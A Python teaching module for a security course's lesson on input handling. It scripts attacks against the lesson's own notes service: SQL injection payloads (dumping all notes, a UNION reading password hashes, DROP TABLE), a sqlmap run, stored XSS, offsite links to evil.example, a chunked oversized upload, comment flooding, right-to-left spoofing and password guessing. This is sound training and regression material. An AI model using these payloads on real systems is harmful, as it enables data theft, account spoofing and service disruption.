"""Lesson 07: attacks on input handling, made by mallory with her own, perfectly valid token.

1. SQL injection in ``GET /notes/search?q=`` (ASVS 1.2.4): the search text closes the SQL
   string literal, and the rest of it is read as SQL. ``' OR 1=1 --`` returns every user's
   notes; a ``UNION`` reads the users table, password hashes included. sqlmap, the standard
   tool, finds the same flaw on a served app.
2. Stored XSS through ``POST /comments`` (ASVS 1.3.1): a comment carrying script is stored as
   sent and served by ``GET /comments`` to every reader; whatever page shows comments runs it.
3. Links that leave the allow-list: a sanitizer that allows only https and mailto links still
   keeps ``//evil.example/`` and its disguises, which browsers follow to another host.
4. An oversized body (API4:2023): a body of megabytes, streamed in chunks with no
   ``Content-Length``, that the service reads whole before anything looks at it.
5. The public comments without bounds (API4:2023, ASVS 2.4.1): every comment in one answer,
   and one account posting as many comments as it likes.
6. Text that shows something other than what it holds: a right-to-left override turns
   ``invoice\u202efdp.exe`` into "invoiceexe.pdf" on screen, and an account name into
   "admin".
7. Passwords made of the account's own words (its name, its e-mail, the service's name) or of
   a simple run of characters, which guessing tools try first (NIST SP 800-63B).

Each ``run_*`` function sends real requests and judges the result; ``ATTACKS`` runs each one on
a ``Scene`` of its own.
"""

from __future__ import annotations

import re
import socket
import time
from collections.abc import Iterable, Sequence
from dataclasses import dataclass
from urllib.parse import urlsplit

import httpx2

from lessons import sanitize
from lessons.attacks import ATTACKER, Attack, AttackResult, Scene, Variant, new_password
from lessons.attacks.lesson03 import bearer
from lessons.comment_limits import MAX_PAGE
from lessons.sanitize import executable_markup
from lessons.store import Store


def explain(response: httpx2.Response) -> None:
    """Print a response as ``METHOD /path -> status``; for a 422, each problem's location and
    message only. FastAPI's 422 body also echoes the submitted input, a password included
    (lesson 08 fixes that), so this never prints the body of a 422 as it is."""
    request = response.request
    print(f"{request.method} {request.url.raw_path.decode()[:60]} -> {response.status_code} "
          f"{response.reason_phrase}")
    if response.status_code == 422:
        for problem in response.json().get("detail", []):
            where = ".".join(str(part) for part in problem.get("loc", ()))
            print(f"    {where}: {problem.get('msg')}")
    elif response.status_code >= 400:
        print(f"    {response.json().get('detail')}")


# -- 1. SQL injection --------------------------------------------------------------------------

# Closes the LIKE '%...%' literal, adds a condition that is always true, and comments out the
# rest of the statement (including the owner check's ORDER BY tail).
DUMP_ALL_NOTES = "' OR 1=1 --"
# The notes query has five columns (id, owner, title, body, created_at); a UNION with five
# columns from the users table comes back shaped as notes.
READ_USERS_TABLE = "' UNION SELECT 0, username, email, password_hash, created_at FROM users --"

# Payloads the fixed search must treat as plain text: never another user's data, never a 5xx.
INJECTION_PAYLOADS: tuple[str, ...] = (
    DUMP_ALL_NOTES,
    READ_USERS_TABLE,
    "' OR '1'='1",
    "%' OR owner LIKE '%",
    "' OR owner='alice' --",
    "') OR ('a'='a",
    "'/**/OR/**/1=1/**/--",
    "' || (SELECT password_hash FROM users LIMIT 1) || '",
    "'; DROP TABLE notes; --",
    "1' ORDER BY 9 --",
    "\\' OR 1=1 --",
    '" OR ""="',
    "' AND 1=CAST((SELECT password_hash FROM users LIMIT 1) AS INT) --",
    "\x00' OR 1=1 --",
    "%",
    "_",
    "' OR 1=1 LIMIT 1 OFFSET 1 --",
    "ʼ OR 1=1 --",
)


def search(client: httpx2.Client, token: str, q: str) -> httpx2.Response:
    return client.get("/notes/search", params={"q": q}, headers=bearer(token))


def others_in(response: httpx2.Response, attacker: str = ATTACKER) -> list[dict[str, object]]:
    """The rows of a search answer that are not the attacker's own notes."""
    if response.status_code != 200:
        return []
    return [row for row in response.json() if row.get("owner") != attacker]


def run_dump_notes(client: httpx2.Client, token: str) -> AttackResult:
    response = search(client, token, DUMP_ALL_NOTES)
    stolen = others_in(response)
    owners = sorted({str(row["owner"]) for row in stolen})
    return AttackResult(
        name=f"{ATTACKER} dumps every user's notes through ?q={DUMP_ALL_NOTES}",
        succeeded=bool(stolen),
        evidence=f"HTTP {response.status_code}, {len(stolen)} notes of others"
        + (f" (owners: {', '.join(owners)})" if owners else ""),
    )


def run_read_users(client: httpx2.Client, token: str) -> AttackResult:
    response = search(client, token, READ_USERS_TABLE)
    rows = others_in(response)
    # A users row comes back as a "note" whose body is the password hash.
    hashes = [row for row in rows if str(row.get("body", "")).startswith("$argon2")]
    # Only the hash's parameters are shown (algorithm, cost); its salt and digest are random.
    shown = ", ".join(f"{row['owner']} {_hash_head(str(row['body']))}..." for row in hashes[:3])
    return AttackResult(
        name=f"{ATTACKER} reads the users table (password hashes) with a UNION",
        succeeded=bool(hashes),
        evidence=f"HTTP {response.status_code}, {len(hashes)} password hashes"
        + (f": {shown}" if shown else ""),
    )


def _hash_head(phc: str) -> str:
    return "$".join(phc.split("$")[:4]) + "$"


@dataclass(frozen=True)
class ProbeResult:
    payload: str
    status: int
    leaked: int  # rows of other users in the answer


def probe(client: httpx2.Client, token: str,
          payloads: Iterable[str] = INJECTION_PAYLOADS) -> list[ProbeResult]:
    results = []
    for payload in payloads:
        response = search(client, token, payload)
        results.append(ProbeResult(payload, response.status_code, len(others_in(response))))
    return results


def run_injection_payloads(client: httpx2.Client, token: str,
                           payloads: Iterable[str] = INJECTION_PAYLOADS) -> AttackResult:
    """Succeeds if any payload reads another user's rows or makes the service fail (5xx)."""
    results = probe(client, token, payloads)
    leaks = [r for r in results if r.leaked]
    errors = [r for r in results if r.status >= 500]
    return AttackResult(
        name=f"{len(results)} injection payloads through ?q=",
        succeeded=bool(leaks or errors),
        evidence=f"{len(leaks)} read other users' data, {len(errors)} caused a 5xx, "
        f"{len(results) - len(leaks) - len(errors)} were treated as plain text",
    )


# -- 2. stored XSS -----------------------------------------------------------------------------


def post_comment(client: httpx2.Client, token: str, body: str) -> httpx2.Response:
    return client.post("/comments", json={"body": body}, headers=bearer(token))


_NEXT = re.compile(r'<([^>]+)>\s*;\s*rel="next"')


def read_comments(client: httpx2.Client, *, max_pages: int = 1000) -> list[dict[str, object]]:
    """Every comment a visitor can read, without credentials: one answer from the open service,
    or page after page, following each answer's ``Link: <...>; rel="next"``."""
    comments: list[dict[str, object]] = []
    path: str | None = "/comments"
    for _ in range(max_pages):
        if path is None:
            break
        response = client.get(path)
        if response.status_code != 200:
            break
        comments += response.json()
        found = _NEXT.search(response.headers.get("link", ""))
        path = found[1] if found else None
    return comments


def post_all(client: httpx2.Client, token: str, bodies: Iterable[str]) -> tuple[int, int]:
    """Post each body as a comment: how many were stored, and how many the quota refused."""
    accepted = refused = 0
    for body in bodies:
        status = post_comment(client, token, body).status_code
        accepted += status == 201
        refused += status == 429
    return accepted, refused


def run_stored_xss(client: httpx2.Client, token: str, payloads: Sequence[str]) -> AttackResult:
    """Post every payload as a comment, read them back as any visitor would, and parse each
    stored comment for markup that could run script or link outside the allow-list."""
    accepted, refused = post_all(client, token, payloads)
    stored = read_comments(client)
    live = [(comment["body"], findings) for comment in stored
            if (findings := executable_markup(str(comment["body"])))]
    example = f"; e.g. {str(live[0][0])[:60]!r} ({live[0][1][0]})" if live else ""
    quota = f" ({refused} refused by the posting quota)" if refused else ""
    return AttackResult(
        name=f"stored XSS: {len(payloads)} payloads posted as comments",
        succeeded=bool(live),
        evidence=f"{accepted} accepted{quota}, {len(live)} of {len(stored)} served comments "
        f"hold executable markup{example}",
    )


# -- 3. links that leave the allow-list --------------------------------------------------------

# Each is a link to another host; none has a scheme a list of schemes could refuse.
OFFSITE_LINKS: tuple[str, ...] = (
    "//evil.example/login",  # scheme-relative: the page's own scheme, another host
    "\\\\evil.example/login",  # browsers read a backslash in a URL as a slash
    "/\\evil.example/login",
    " //evil.example/login",  # leading spaces are dropped
    "&#x2F;&#x2F;evil.example/login",  # character references, decoded by the HTML parser
)


def run_offsite_links(client: httpx2.Client, token: str,
                      links: Iterable[str] = OFFSITE_LINKS) -> AttackResult:
    """Post a "please log in again" link for each form, read the comments back, and look for
    stored links that are not absolute https or mailto URLs."""
    links = list(links)
    post_all(client, token, (f'<a href="{link}">Your session expired: log in again</a>'
                             for link in links))
    stored = [str(comment["body"]) for comment in read_comments(client)]
    live = [body for body in stored if executable_markup(body)]
    return AttackResult(
        name=f"{ATTACKER} links to another host with {len(links)} forms of //evil.example/",
        succeeded=bool(live),
        evidence=f"{len(live)} of {len(stored)} stored comments link off the allow-list"
        + (f", e.g. {live[0][:48]!r}" if live else ""),
    )


# -- 4. an oversized body ----------------------------------------------------------------------


@dataclass(frozen=True)
class Upload:
    status: int
    bytes_sent: int
    body_finished: bool  # False: the server answered before the body was complete
    seconds: float


def _frame(data: bytes) -> bytes:
    return f"{len(data):x}\r\n".encode() + data + b"\r\n"


def stream_json_body(url: str, path: str, headers: dict[str, str], prefix: bytes,
                     filler: int, suffix: bytes, *, chunk: int = 16 * 1024,
                     pause_after: int | None = None, wait: float = 1.0) -> Upload:
    """POST a body of ``prefix + b"A" * filler + suffix`` with ``Transfer-Encoding: chunked``
    (no ``Content-Length``) over a raw socket, one chunk at a time.

    After ``pause_after`` body bytes the sender stops for up to ``wait`` seconds, with the body
    unfinished. A server that refuses the body answers during that pause (on loopback, within
    milliseconds); a server that reads bodies whole waits for the rest, which is then sent.
    Should a busy server answer only after the pause, the rest is sent into a connection it
    has closed, and the sender sees that too."""
    parts = urlsplit(url)
    host, port = parts.hostname or "127.0.0.1", parts.port or 80
    head = [f"POST {path} HTTP/1.1", f"Host: {host}:{port}", "Content-Type: application/json",
            "Transfer-Encoding: chunked", "Connection: close",
            *(f"{name}: {value}" for name, value in headers.items())]
    started = time.perf_counter()
    sent = 0
    with socket.create_connection((host, port), timeout=30) as sock:
        sock.sendall(("\r\n".join(head) + "\r\n\r\n").encode())

        def pieces() -> Iterable[bytes]:
            yield prefix
            left = filler
            while left > 0:
                yield b"A" * min(chunk, left)
                left -= chunk
            yield suffix

        paused = False
        for piece in pieces():
            if not paused and pause_after is not None and sent >= pause_after:
                paused = True
                if _answered_within(sock, wait):  # the server answered, body unfinished
                    return Upload(_status(_read_all(sock)), sent, False,
                                  time.perf_counter() - started)
            try:
                sock.sendall(_frame(piece))
            except (ConnectionResetError, BrokenPipeError):
                # The server closed the connection mid-body: it will not read the rest.
                return Upload(_status(_read_all(sock)), sent, False,
                              time.perf_counter() - started)
            sent += len(piece)
        sock.sendall(b"0\r\n\r\n")
        return Upload(_status(_read_all(sock)), sent, True, time.perf_counter() - started)


def _answered_within(sock: socket.socket, seconds: float) -> bool:
    """Whether the server sent anything (or closed) within ``seconds``; nothing is consumed."""
    sock.settimeout(seconds)
    try:
        sock.recv(1, socket.MSG_PEEK)
        return True
    except TimeoutError:
        return False
    finally:
        sock.settimeout(30)


def _read_all(sock: socket.socket) -> bytes:
    data = b""
    while True:
        try:
            part = sock.recv(65536)
        except (ConnectionResetError, TimeoutError):
            break
        if not part:
            break
        data += part
    return data


def _status(response: bytes) -> int:
    line = response.split(b"\r\n", 1)[0].split()
    return int(line[1]) if len(line) > 1 and line[1].isdigit() else 0


def announce_body(url: str, path: str, headers: dict[str, str], length: int,
                  wait: float = 5.0) -> int:
    """Send only a request head that announces a ``length``-byte body, send no body at all,
    and return the status the server answers within ``wait`` seconds (0: no answer)."""
    parts = urlsplit(url)
    host, port = parts.hostname or "127.0.0.1", parts.port or 80
    head = [f"POST {path} HTTP/1.1", f"Host: {host}:{port}", "Content-Type: application/json",
            f"Content-Length: {length}", "Connection: close",
            *(f"{name}: {value}" for name, value in headers.items())]
    with socket.create_connection((host, port), timeout=30) as sock:
        sock.sendall(("\r\n".join(head) + "\r\n\r\n").encode())
        if not _answered_within(sock, wait):
            return 0
        return _status(_read_all(sock))


def upload_big_note(url: str, token: str, size: int = 2 * 1024 * 1024,
                    pause_after: int = 64 * 1024 + 1) -> Upload:
    """A note whose body is ``size`` bytes, streamed to ``POST /notes`` without a length."""
    # The sender pauses as soon as it has sent more than the service's 64 KiB limit: a server
    # that refuses the body can answer then, and nothing more is sent into a closed connection.
    return stream_json_body(url, "/notes", bearer(token), b'{"title": "big", "body": "', size,
                            b'"}', pause_after=pause_after)


def run_oversized_body(url: str, token: str, size: int = 2 * 1024 * 1024) -> AttackResult:
    upload = upload_big_note(url, token, size)
    how = ("the server waited for all of it" if upload.body_finished
           else "the server answered with the body still unfinished")
    return AttackResult(
        name=f"stream a {size // 1024} KiB note body in chunks, with no Content-Length",
        # The layer holds when the server stops before the body is complete, whatever else
        # happens to that connection; the attack succeeds when the whole body was taken in.
        succeeded=upload.body_finished,
        evidence=f"HTTP {upload.status} after {upload.bytes_sent // 1024} KiB sent; {how}",
    )


# -- 5. the public comments without bounds -----------------------------------------------------


def seed_comments(store: Store, authors: Sequence[str], count: int, size: int) -> None:
    """Set the scene: ``count`` comments of ``size`` characters by ``authors`` in turn, put
    straight into the store in one transaction (a busy comment section, not an attack)."""
    rows = [(authors[n % len(authors)], f"Comment {n}: " + "lorem ipsum " * (size // 12),
             "2026-01-01T00:00:00Z") for n in range(count)]
    with store.transaction() as db:
        db.executemany("INSERT INTO comments (author, body, created_at) VALUES (?, ?, ?)", rows)


# What a visitor may ask for: nothing, far too much, and a negative number, which SQLite's
# LIMIT reads as "no limit".
DUMP_QUERIES: tuple[dict[str, object], ...] = ({}, {"limit": 1_000_000}, {"limit": -1})


def run_comment_dump(client: httpx2.Client) -> AttackResult:
    """Without any credential, ask ``GET /comments`` for as much as it will give at once."""
    largest, answers = 0, []
    for params in DUMP_QUERIES:
        response = client.get("/comments", params=params)
        shown = "&".join(f"{key}={value}" for key, value in params.items()) or "no parameters"
        answers.append(f"{shown}: {response.status_code}")
        if response.status_code == 200:
            largest = max(largest, len(response.content))
            if len(response.json()) > MAX_PAGE:
                answers[-1] += f" with {len(response.json())} comments"
    return AttackResult(
        name="anyone reads the whole comment section in one answer",
        succeeded=any("comments" in answer for answer in answers),
        evidence=f"largest answer {largest // 1024} KiB; " + ", ".join(answers),
    )


def run_comment_flood(client: httpx2.Client, token: str, count: int = 100) -> AttackResult:
    """Post ``count`` comments in a row, as fast as the service answers."""
    accepted, stopped = 0, ""
    for n in range(count):
        response = post_comment(client, token, f"Buy cheap watches! ({n})")
        if response.status_code != 201:
            # The number of seconds depends on the clock: only whether it is there is shown.
            told = " with Retry-After" if "retry-after" in response.headers else ""
            stopped = f", then HTTP {response.status_code}{told}"
            break
        accepted += 1
    return AttackResult(
        name=f"{ATTACKER} posts {count} comments in a row",
        succeeded=accepted == count,
        evidence=f"{accepted} of {count} accepted{stopped}",
    )


# -- 6. text that shows something other than what it holds -------------------------------------

# (what it is, the title): each character changes how the text shows, without being seen.
DISGUISED_TITLES: tuple[tuple[str, str], ...] = (
    ("a right-to-left override (U+202E)", "invoice\u202efdp.exe"),  # shows as invoiceexe.pdf
    ("a right-to-left isolate (U+2067)", "total: \u2067100\u2069 EUR"),
    ("a zero-width space (U+200B)", "pay\u200bpal receipt"),
    ("a soft hyphen (U+00AD)", "pass\u00adword reset"),
    ("a line separator (U+2028)", "first line\u2028second line"),
    ("a next-line control (U+0085)", "first line\u0085second line"),
)
# Shown right to left, this account name reads "admin".
DISGUISED_USERNAME = "\u202enimda"


def run_disguised_text(client: httpx2.Client, token: str, password: str) -> AttackResult:
    """Create notes with disguised titles and register an account whose name shows as
    another; ``password`` is a good one for that account (the name is what is tested)."""
    accepted = [what for what, title in DISGUISED_TITLES
                if client.post("/notes", json={"title": title, "body": "x"},
                               headers=bearer(token)).status_code == 201]
    account = client.post("/users", json={"username": DISGUISED_USERNAME, "password": password,
                                          "email": "someone@example.org"})
    if account.status_code == 201:
        accepted.append("an account name that shows as 'admin'")
    tried = len(DISGUISED_TITLES) + 1
    return AttackResult(
        name="titles and an account name that show something other than they hold",
        succeeded=bool(accepted),
        evidence=f"{len(accepted)} of {tried} accepted"
        + (f": {', '.join(accepted[:3])}{', ...' if len(accepted) > 3 else ''}"
           if accepted else ""),
    )


# -- 7. passwords made of the account's own words ----------------------------------------------


@dataclass(frozen=True)
class Guessable:
    username: str
    email: str
    password: str
    made_of: str


# Demo accounts and the kind of password people choose for them. None is in the common list.
GUESSABLE: tuple[Guessable, ...] = (
    Guessable("carol_lee", "carol.lee@example.org", "carol_lee-2024!", "the username"),
    Guessable("dora", "dora.ortiz@example.org", "Ortiz.Dora.1987", "the e-mail's name"),
    Guessable("erin", "erin@example.org", "my notes are private", "the service's name"),
    Guessable("frank", "frank@example.org", "abcdefghijklmnop", "a run of letters"),
    Guessable("gwen", "gwen@example.org", "7777777777777777", "one digit, repeated"),
)
# What a guessing tool tries first against an account, knowing its name only.
SUFFIXES = ("", "1", "123", "2024", "2024!", "-2024", "-2024!", "_2024!")


def run_guessable_passwords(client: httpx2.Client,
                            accounts: Sequence[Guessable] = GUESSABLE) -> AttackResult:
    """Register each account with its guessable password, then, knowing only the first
    account's name, try the name with the usual endings until one logs in."""
    accepted = [a for a in accounts
                if client.post("/users", json={"username": a.username, "email": a.email,
                                               "password": a.password}).status_code == 201]
    guessed = ""
    if accounts and accounts[0] in accepted:
        name = accounts[0].username
        for number, suffix in enumerate(SUFFIXES, 1):
            form = {"username": name, "password": name + suffix}
            if client.post("/auth/token", data=form).status_code == 200:
                guessed = f"; {ATTACKER}, knowing only the name {name}, logged in at guess {number}"
                break
    return AttackResult(
        name="register passwords made of the account's own words, then guess one",
        succeeded=bool(accepted),
        evidence=f"{len(accepted)} of {len(accounts)} accepted"
        + (f" (made of {', '.join(a.made_of for a in accepted)})" if accepted else "")
        + guessed,
    )


# -- sqlmap, the standard tool, against a served app -------------------------------------------


@dataclass(frozen=True)
class SqlmapRun:
    injectable: bool
    seconds: float
    output: str


def run_sqlmap(url: str, token: str, query: str = "note", *, workdir: str,
               timeout: float = 120) -> SqlmapRun:
    """sqlmap against ``GET /notes/search?q=`` of a server on loopback, with a bearer token.

    Bounded on purpose: boolean-based blind technique only (enough to find this flaw), level 2
    (level 1 does not try the ``%'`` boundary of a LIKE pattern) and risk 1, SQLite named so
    no other database is probed, answers chosen automatically
    (``--batch``), and every file sqlmap writes kept in ``workdir``. ``query`` should match one
    of the caller's own note titles, so that "true" and "false" conditions differ."""
    import os
    import shutil
    import subprocess
    import sys
    from pathlib import Path

    sqlmap = (shutil.which("sqlmap", path=str(Path(sys.executable).parent))
              or shutil.which("sqlmap"))
    if sqlmap is None:
        raise RuntimeError("sqlmap is not installed: pip install -r requirements.txt")
    command = [sqlmap, "-u", f"{url}/notes/search?q={query}", "-p", "q",
               "--headers", f"Authorization: Bearer {token}", "--batch", "--dbms", "SQLite",
               "--technique", "B", "--level", "2", "--risk", "1", "--flush-session",
               "--disable-coloring", "--output-dir", str(Path(workdir) / "output")]
    # HOME in the private folder too: sqlmap keeps its history and settings under it.
    env = {**os.environ, "HOME": workdir}
    started = time.perf_counter()
    done = subprocess.run(command, capture_output=True, text=True, encoding="utf-8",  # noqa: S603
                          errors="replace", timeout=timeout, env=env, check=False,
                          stdin=subprocess.DEVNULL)
    output = done.stdout + done.stderr
    injectable = "sqlmap identified the following injection point" in output
    return SqlmapRun(injectable, time.perf_counter() - started, output)


def run_sqlmap_attack(url: str, token: str, workdir: str) -> AttackResult:
    run = run_sqlmap(url, token, workdir=workdir)
    return AttackResult(
        name="sqlmap looks for SQL injection in ?q=",
        succeeded=run.injectable,
        evidence="sqlmap: the parameter q is injectable" if run.injectable
        else "sqlmap: all tested parameters do not appear to be injectable",
    )


# -- the lesson's attacks, each on a scene of its own ------------------------------------------


def _dump(scene: Scene) -> AttackResult:
    return run_dump_notes(scene.client, scene.token(ATTACKER))


def _read_users(scene: Scene) -> AttackResult:
    return run_read_users(scene.client, scene.token(ATTACKER))


def _payloads(scene: Scene) -> AttackResult:
    return run_injection_payloads(scene.client, scene.token(ATTACKER))


def _sqlmap(scene: Scene) -> AttackResult:
    server = scene.serve()
    return run_sqlmap_attack(server.url, scene.token(ATTACKER), str(scene.folder / "sqlmap"))


def _stored_xss(scene: Scene) -> AttackResult:
    return run_stored_xss(scene.client, scene.token(ATTACKER), sanitize.xss_corpus())


def _offsite_links(scene: Scene) -> AttackResult:
    return run_offsite_links(scene.client, scene.token(ATTACKER))


def _oversized(scene: Scene) -> AttackResult:
    server = scene.serve()
    return run_oversized_body(server.url, scene.token(ATTACKER))


def _comment_dump(scene: Scene) -> AttackResult:
    seed_comments(scene.store, list(scene.accounts), count=2_000, size=1_000)
    return run_comment_dump(scene.client)


def _comment_flood(scene: Scene) -> AttackResult:
    return run_comment_flood(scene.client, scene.token(ATTACKER))


def _disguised(scene: Scene) -> AttackResult:
    return run_disguised_text(scene.client, scene.token(ATTACKER), new_password())


def _guessable(scene: Scene) -> AttackResult:
    return run_guessable_passwords(scene.client)


BEFORE = Variant(upto=6, label="the lesson-06 service")
# The sanitizer this lesson first shipped: it stopped every script, but not //evil.example/.
FIRST_SANITIZER = Variant(upto=7, seams={"sanitize_html": sanitize.sanitize_schemes_only},
                          label="lesson 07's first sanitizer")

# Every one is stopped by lesson 07's reference layer.
ATTACKS: tuple[Attack, ...] = (
    Attack("sql_dump_notes", f"{ATTACKER} dumps every user's notes through the search", _dump,
           BEFORE, fixed_in=7),
    Attack("sql_read_users", f"{ATTACKER} reads the users table with a UNION", _read_users,
           BEFORE, fixed_in=7),
    Attack("sql_payloads", "injection payloads read others' data or cause a 5xx", _payloads,
           BEFORE, fixed_in=7),
    Attack("sqlmap", "sqlmap finds the injection on a served app", _sqlmap, BEFORE,
           fixed_in=7, network=True),
    Attack("stored_xss", "comments store script for every reader", _stored_xss, BEFORE,
           fixed_in=7),
    Attack("offsite_links", "comments link to another host past the list of schemes",
           _offsite_links, FIRST_SANITIZER, fixed_in=7),
    Attack("oversized_body", "a chunked body of megabytes is read whole", _oversized, BEFORE,
           fixed_in=7, network=True),
    Attack("comment_dump", "anyone reads every comment in one answer", _comment_dump, BEFORE,
           fixed_in=7),
    Attack("comment_flood", f"{ATTACKER} posts comments without end", _comment_flood, BEFORE,
           fixed_in=7),
    Attack("disguised_text", "titles and names that show something else", _disguised, BEFORE,
           fixed_in=7),
    Attack("guessable_passwords", "passwords made of the account's own words", _guessable,
           BEFORE, fixed_in=7),
)
